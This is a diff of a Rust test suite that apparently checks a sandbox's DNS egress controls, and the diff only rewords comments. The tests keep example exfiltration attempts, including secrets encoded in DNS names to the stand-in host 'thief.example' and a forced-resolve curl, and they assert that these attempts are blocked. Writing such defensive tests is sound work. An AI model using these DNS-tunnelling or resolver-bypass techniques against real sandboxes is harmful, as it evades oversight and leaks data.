@@ -1,4 +1,4 @@
-//! Ways around the sandbox's own name server: other servers, other ports, names in other protocols, and data in names.
+//! Attempts to bypass the sandbox's DNS server: other servers, other ports, DNS in other protocols, and data in names.
 
 use std::net::Ipv4Addr;
 
@@ -10,13 +10,13 @@ use crate::world;
 const PUBLIC: [Ipv4Addr; 3] =
     [Ipv4Addr::new(8, 8, 8, 8), Ipv4Addr::new(1, 1, 1, 1), Ipv4Addr::new(9, 9, 9, 9)];
 
-/// What `dig` exits with is not the same in all ways of asking; what it prints of an answer is.
+/// The exit code of `dig` depends on the transport; its output does not.
 async fn asks_in_vain(guest: &Guest<'_>, command: &str) {
     let said = guest.run(command).await;
     assert!(!said["stdout"].as_str().unwrap().contains("->>HEADER<<-"), "{command}: {said}");
 }
 
-/// A server that answers any name is right there, and hears nothing.
+/// A server that answers every name is reachable for the host, and must receive nothing.
 #[tokio::test]
 async fn other_servers() {
     let world = world().await;
@@ -39,7 +39,7 @@ async fn other_servers() {
     }
 }
 
-/// Also at the address of a listed host no names can be asked for.
+/// The address of a listed host does not serve DNS either.
 #[tokio::test]
 async fn a_server_at_the_address_of_a_listed_host() {
     let world = world().await;
@@ -58,7 +58,7 @@ async fn a_server_at_the_address_of_a_listed_host() {
     }
 }
 
-/// DNS inside of HTTPS is a website as any other: it passes if it is listed.
+/// DNS over HTTPS is a website like any other: it passes if it is listed.
 #[tokio::test]
 async fn names_over_https() {
     let world = world().await;
@@ -77,7 +77,7 @@ async fn names_over_https() {
         guest.fails(&format!("curl -sS -k --max-time 10 {url}")).await;
     }
     guest.was_told(&["not-allowed"], "dns.google").await;
-    // The other sandbox names it; so it may.
+    // The other sandbox's policy lists it by its exact name.
     let trusting = world.strict(&["dns.google"]).await;
     assert_eq!(trusting.output("curl -sS --max-time 10 https://dns.google/dns-query").await, "an answer");
 }
@@ -94,7 +94,7 @@ async fn data_in_names() {
     guest.was_told(&["not-allowed"], "secret-1.thief.example").await;
     assert_eq!(world.internet.names().asked("thief.example"), []);
     assert_eq!(world.internet.names().asked("1.carrier.web.example"), []);
-    // A client that forges a name has it looked up by nobody either.
+    // A forged name is not looked up either.
     guest
         .fails(&format!(
             "curl -sS --max-time 5 -k --resolve x.thief.example:443:{} https://x.thief.example",
@@ -104,7 +104,7 @@ async fn data_in_names() {
     assert_eq!(world.internet.names().asked("thief.example"), []);
 }
 
-/// Questions that are none, or too large, hurt nobody.
+/// Invalid and oversized questions do no harm.
 #[tokio::test]
 async fn broken_questions() {
     let world = world().await;
@@ -128,7 +128,7 @@ print("asked")
     );
 }
 
-/// The upstream server is dead: the client hears so soon.
+/// The upstream server is dead: the client gets an error soon.
 #[tokio::test]
 async fn a_dead_server_upstream() {
     let world = world().await;
@@ -142,7 +142,7 @@ async fn a_dead_server_upstream() {
     }
 }
 
-/// By IPv6 there is nothing to be had, and no hints of other ways.
+/// IPv6 answers are empty and give no hints.
 #[tokio::test]
 async fn other_kinds_of_answers() {
     let world = world().await;
